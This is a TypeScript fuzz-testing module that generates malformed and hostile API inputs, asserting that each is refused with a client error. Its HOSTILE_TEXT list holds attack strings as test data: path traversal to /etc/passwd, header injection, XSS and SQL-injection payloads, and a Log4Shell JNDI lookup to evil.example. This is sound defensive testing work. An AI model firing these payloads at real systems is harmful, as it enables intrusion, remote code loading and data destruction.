import fc from 'fast-check';
import { noReferences, type JsonSchema, type Resolver } from './json-schema';
import { validValue, type GeneratorOptions } from './json-schema-arbitrary';

/**
 * Values a client should not send: wrong types, numbers past every integer type, strings past every
 * length limit, text that trips storage (NUL, lone surrogates) or tries to leave its place (path
 * traversal, absolute URLs, markup, SQL). Each must be refused with a 4xx, never a 5xx.
 */
const LONG = 'x'.repeat(70_000);
export const HOSTILE_TEXT: readonly string[] = [
  '',
  ' ',
  LONG,
  'é'.repeat(5_000),
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffx',
  '🙂',
  '\u202eevil',
  '\ufeff',
  'e\u0301',
  '\r\nX-Injected: 1',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..',
  '.',
  '//evil.example/',
  'http://evil.example/x',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  '"; DROP TABLE carts; --',
  '${jndi:ldap://evil.example/a}',
  '%00',
  '%',
  '%zz',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e400',
  '0x10',
  '99999999999999999999999999',
  '[]',
  '{}',
  '__proto__',
];

const deepArray = (depth: number): unknown => (depth === 0 ? [] : [deepArray(depth - 1)]);

export const HOSTILE_VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  -0.000001,
  1e308,
  -1e308,
  2 ** 53,
  2 ** 63,
  -(2 ** 63),
  2 ** 64,
  5e-324,
  [],
  [null],
  {},
  { '': null },
  deepArray(200),
  ...HOSTILE_TEXT,
];

/** A hostile string: a named nasty one, or random code points (controls and surrogates included). */
export const hostileText = (): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...HOSTILE_TEXT), weight: 3 },
    { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 1 },
  );

/** A hostile JSON value: any of the above, or any random JSON. */
export const hostileValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...HOSTILE_VALUES), weight: 3 },
    { arbitrary: fc.jsonValue({ maxDepth: 2 }), weight: 1 },
  );

export type Mutation = 'replace' | 'drop-key' | 'extra-key';
type Path = (string | number)[];

interface Spot {
  path: Path;
  value: unknown;
  /** The schema of this spot where the walk can tell (it cannot inside anyOf/oneOf). */
  schema?: JsonSchema;
}

/** Every place in `value`, root first, with its schema where known. */
export function spotsOf(
  value: unknown,
  schema: JsonSchema | undefined,
  resolve: Resolver = noReferences,
  path: Path = [],
): Spot[] {
  const s = schema ? resolve(schema) : undefined;
  const spots: Spot[] = [{ path, value, schema: s }];
  if (Array.isArray(value)) {
    value.forEach((item, index) => spots.push(...spotsOf(item, s?.items, resolve, [...path, index])));
  } else if (typeof value === 'object' && value !== null) {
    for (const [key, item] of Object.entries(value)) {
      const extra = typeof s?.additionalProperties === 'object' ? s.additionalProperties : undefined;
      spots.push(...spotsOf(item, s?.properties?.[key] ?? extra, resolve, [...path, key]));
    }
  }
  return spots;
}

function setAt(
  root: unknown,
  path: Path,
  change: (parent: Record<string | number, unknown>, key: string | number) => void,
): unknown {
  if (path.length === 0) {
    const holder: Record<string, unknown> = { root };
    change(holder, 'root');
    return holder.root;
  }
  const copy = structuredClone(root);
  let parent = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) parent = parent[key] as Record<string | number, unknown>;
  change(parent, path.at(-1)!);
  return copy;
}

/**
 * Applies one mutation at the spot `pick` selects: replace the value there, drop a key of the
 * object there (a required one when it has any), or add a key the schema does not name.
 */
export function mutate(
  value: unknown,
  schema: JsonSchema,
  pick: number,
  mutation: Mutation,
  hostile: unknown,
  resolve: Resolver = noReferences,
): unknown {
  const spots = spotsOf(value, schema, resolve);
  const objects = spots.filter(
    (spot) => typeof spot.value === 'object' && spot.value !== null && !Array.isArray(spot.value),
  );
  if (mutation === 'drop-key') {
    const candidates = objects.filter((spot) => Object.keys(spot.value as object).length > 0);
    if (candidates.length > 0) {
      const spot = candidates[pick % candidates.length]!;
      const keys = Object.keys(spot.value as object);
      const required = keys.filter((key) => spot.schema?.required?.includes(key));
      const pool = required.length > 0 ? required : keys;
      const key = pool[Math.floor(pick / candidates.length) % pool.length]!;
      return setAt(value, [...spot.path, key], (parent, last) => delete parent[last]);
    }
  }
  if (mutation === 'extra-key' && objects.length > 0) {
    const spot = objects[pick % objects.length]!;
    const names = ['unexpected', '__proto__', 'constructor', '', 'ÿ'.repeat(300)];
    const name = names[Math.floor(pick / objects.length) % names.length]!;
    return setAt(value, [...spot.path, name], (parent, last) => {
      // defineProperty, so that `__proto__` becomes an own key that JSON.stringify writes out.
      Object.defineProperty(parent, last, {
        value: hostile,
        enumerable: true,
        configurable: true,
        writable: true,
      });
    });
  }
  const spot = spots[pick % spots.length]!;
  return setAt(value, spot.path, (parent, last) => {
    parent[last] = hostile;
  });
}

/** A near-valid value with one thing wrong in it. */
export function mutatedValue(schema: JsonSchema, options: GeneratorOptions = {}): fc.Arbitrary<unknown> {
  const resolve = options.resolve ?? noReferences;
  return fc
    .tuple(
      validValue(schema, options),
      fc.nat(),
      fc.constantFrom<Mutation>('replace', 'replace', 'drop-key', 'extra-key'),
      hostileValue(),
    )
    .map(([value, pick, mutation, hostile]) => mutate(value, schema, pick, mutation, hostile, resolve));
}

const BROKEN_JSON: readonly string[] = [
  '{',
  '{"data":',
  '[',
  'nul',
  '{"data": [1,]}',
  "{'data': 1}",
  '\ufeff{}',
  '{} trailing',
  '{"a":1,"a":2}',
  '1e400',
  'null',
  '[]',
  '"text"',
  '[['.repeat(5_000),
];

/**
 * A body that is not the JSON it claims to be (or JSON of the wrong shape): one of a list of
 * broken texts, or the valid body cut short at `cut`.
 */
export function rawBody(valid: string, cut: number, pick: number): string {
  const choice = pick % (BROKEN_JSON.length + 1);
  return choice < BROKEN_JSON.length ? BROKEN_JSON[choice]! : valid.slice(0, cut % Math.max(1, valid.length));
}

export const WRONG_CONTENT_TYPES: readonly (string | null)[] = [
  null,
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/jsonx',
  'application/json; charset=utf-16',
  'application/vnd.api+json',
  '*/*',
];
